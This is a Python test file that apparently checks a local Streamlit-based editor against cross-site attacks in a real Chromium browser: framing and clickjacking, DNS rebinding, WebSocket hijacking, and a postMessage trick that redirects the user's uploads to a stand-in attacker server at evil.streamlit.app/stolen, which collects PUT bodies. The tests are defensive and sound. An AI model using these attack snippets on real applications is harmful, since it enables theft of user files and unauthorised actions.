"""Pages of others attack an open editor in a real browser; each attack succeeded before the server had its guard."""

from __future__ import annotations

import shutil
import ssl
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from browser_pages import PORT, SLOWLY, Editor

pytestmark = [pytest.mark.slow, pytest.mark.enable_socket]

STRANGER, TRUSTED = f"http://evil.example:{PORT + 5}", "https://evil.streamlit.app"
OTHER_PORT, SAME_SITE = f"http://localhost:{PORT + 5}", f"http://127.0.0.1:{PORT + 5}"
"""The last shares the editor's site: browsers send it the editor's cookies, strict ones too."""
RULES = f"MAP evil.example 127.0.0.1, MAP evil.streamlit.app:443 127.0.0.1:{PORT + 6}"

FRAME = "<iframe id=victim src='{address}/' style='width: 1000px; height: 700px'></iframe>"
SOCKET = """([address]) => new Promise(done => {
    const socket = new WebSocket(address, ["streamlit"]);
    socket.onopen = () => done("open");
    socket.onerror = () => done("refused");
})"""
PICTURE = """([address]) => new Promise(done => {
    const picture = new Image();
    picture.onload = () => done("shown");
    picture.onerror = () => done("refused");
    picture.src = address;
})"""
REDIRECT = """([address, prefix]) => document.getElementById("victim").contentWindow.postMessage(
    {stCommVersion: 1, type: "SET_FILE_UPLOAD_CLIENT_CONFIG", prefix: prefix, headers: {}}, address)"""


class Evil(BaseHTTPRequestHandler):
    """Serves the page that an attack asks for, and takes whatever is sent."""

    body, sent = "", []

    def do_GET(self) -> None:
        self._answer(f"<!doctype html><title>Evil</title>{Evil.body}".encode())

    def do_PUT(self) -> None:
        Evil.sent.append(self.rfile.read(int(self.headers["Content-Length"])))
        self._answer(b"")

    def do_OPTIONS(self) -> None:
        self._answer(b"")

    def _answer(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", self.headers.get("Origin", "*"))
        self.send_header("Access-Control-Allow-Methods", "PUT")
        self.send_header("Access-Control-Allow-Headers", self.headers.get("Access-Control-Request-Headers", "*"))
        self.send_header("Access-Control-Allow-Credentials", "true")
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@pytest.fixture(scope="module")
def evil(tmp_path_factory: pytest.TempPathFactory) -> Iterator[None]:
    """A server of somebody else on this computer, so that the browser does not keep its pages off local addresses."""
    if (openssl := shutil.which("openssl")) is None:
        pytest.skip("openssl is not installed")
    folder: Path = tmp_path_factory.mktemp("evil")
    certificate = [openssl, "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=evil"]
    subprocess.run([*certificate, "-keyout", folder / "key", "-out", folder / "cert"], check=True, capture_output=True)
    servers = [ThreadingHTTPServer(("127.0.0.1", port), Evil) for port in (PORT + 5, PORT + 6)]
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(folder / "cert", folder / "key")
    servers[1].socket = context.wrap_socket(servers[1].socket, server_side=True)
    for server in servers:
        threading.Thread(target=server.serve_forever, daemon=True).start()
    yield
    for server in servers:
        server.shutdown()
        server.server_close()


@pytest.fixture(scope="module")
def window(editor: Editor, evil: None) -> Iterator:
    """A window of somebody who has the editor open, in a browser in which evil names lead to this computer."""
    from playwright.sync_api import sync_playwright

    program = shutil.which("chromium")
    if program is None:
        pytest.skip("Chromium is not installed")
    with sync_playwright() as playwright:
        arguments = ["--no-sandbox", "--disable-gpu", f"--host-resolver-rules={RULES}"]
        browser = playwright.chromium.launch(executable_path=program, args=arguments)
        window = browser.new_context(ignore_https_errors=True, viewport={"width": 1100, "height": 800})
        window.set_default_timeout(SLOWLY)
        window.set_default_navigation_timeout(SLOWLY)
        page = window.new_page()
        for _ in range(120):
            try:
                page.goto(f"{editor.address}/?token={editor.token}")
                break
            except Exception:
                assert editor.process.poll() is None, "the server has ended"
                page.wait_for_timeout(1000)
        page.get_by_role("button", name="Open the sample scene").wait_for()
        yield window
        browser.close()


def visit(window, origin: str, body: str = ""):
    """The user opens a page of somebody else."""
    Evil.body, Evil.sent = body, []
    page = window.new_page()
    page.goto(f"{origin}/")
    return page


def victim(page):
    """The frame with the editor; None where the browser shows an error in its place."""
    frame = page.query_selector("#victim").content_frame()
    return None if frame.url.startswith("chrome-error:") else frame


@pytest.mark.parametrize("origin", [STRANGER, TRUSTED, OTHER_PORT, SAME_SITE])
def test_a_click_on_another_page_makes_no_project(window, editor: Editor, origin: str) -> None:
    before = set(editor.projects.root.glob("*/"))
    page = visit(window, origin, FRAME.format(address=editor.address))
    if (frame := victim(page)) is not None:
        frame.get_by_role("button", name="Open the sample scene").click()
        frame.get_by_text("Make the video").first.wait_for()
    assert set(editor.projects.root.glob("*/")) == before
    assert frame is None
    page.close()


def test_no_page_gets_the_users_upload(window, editor: Editor) -> None:
    page = visit(window, TRUSTED, FRAME.format(address=editor.address))
    if (frame := victim(page)) is not None:
        frame.get_by_text("New project", exact=True).click()
        page.evaluate(REDIRECT, [editor.address, f"{TRUSTED}/stolen"])
        picture = {"name": "mine.png", "mimeType": "image/png", "buffer": b"\x89PNG of the user"}
        with page.expect_response(lambda response: response.request.method == "PUT"):
            frame.locator("input[type=file]").first.set_input_files(picture)
    assert Evil.sent == []
    assert frame is None
    page.close()


@pytest.mark.parametrize("origin", [OTHER_PORT, SAME_SITE])
def test_no_page_opens_a_socket(window, editor: Editor, origin: str) -> None:
    page = visit(window, origin)
    for host in ("127.0.0.1", "localhost"):
        assert page.evaluate(SOCKET, [f"ws://{host}:{PORT}/_stcore/stream"]) == "refused"
    page.close()


@pytest.mark.parametrize("origin", [OTHER_PORT, SAME_SITE])
def test_no_page_shows_what_the_editor_serves(window, editor: Editor, origin: str) -> None:
    page = visit(window, origin)
    assert page.evaluate(PICTURE, [f"{editor.address}/favicon.png"]) == "refused"
    page.close()


def test_a_name_that_leads_here_reads_nothing(window, editor: Editor) -> None:
    page = window.new_page()
    address = f"http://evil.example:{PORT}"
    assert page.goto(f"{address}/").status == 403
    assert page.evaluate("async path => (await fetch(path)).status", "/_stcore/host-config") == 403
    assert page.evaluate(SOCKET, [f"ws://evil.example:{PORT}/_stcore/stream"]) == "refused"
    page.close()


def test_without_the_token_there_is_only_a_page_that_says_where_it_is(window, editor: Editor) -> None:
    stranger = window.browser.new_context()
    page = stranger.new_page()
    assert page.goto(editor.address).status == 403
    page.get_by_text("Use the address that the terminal shows").wait_for()
    stranger.close()


def test_the_address_opens_the_editor_from_a_terminal_in_another_page(window, editor: Editor) -> None:
    user = window.browser.new_context(ignore_https_errors=True)
    page = visit(user, TRUSTED, f"<a href='{editor.address}/?token={editor.token}'>terminal</a>")
    page.get_by_text("terminal").click()
    page.get_by_role("button", name="Open the sample scene").wait_for(timeout=SLOWLY)
    assert page.url == f"{editor.address}/", "the token is no longer in the address"
    assert editor.token not in page.evaluate("document.cookie")
    assert {cookie["name"]: cookie["sameSite"] for cookie in user.cookies()}[f"parley-{PORT}"] == "Strict"
    user.close()
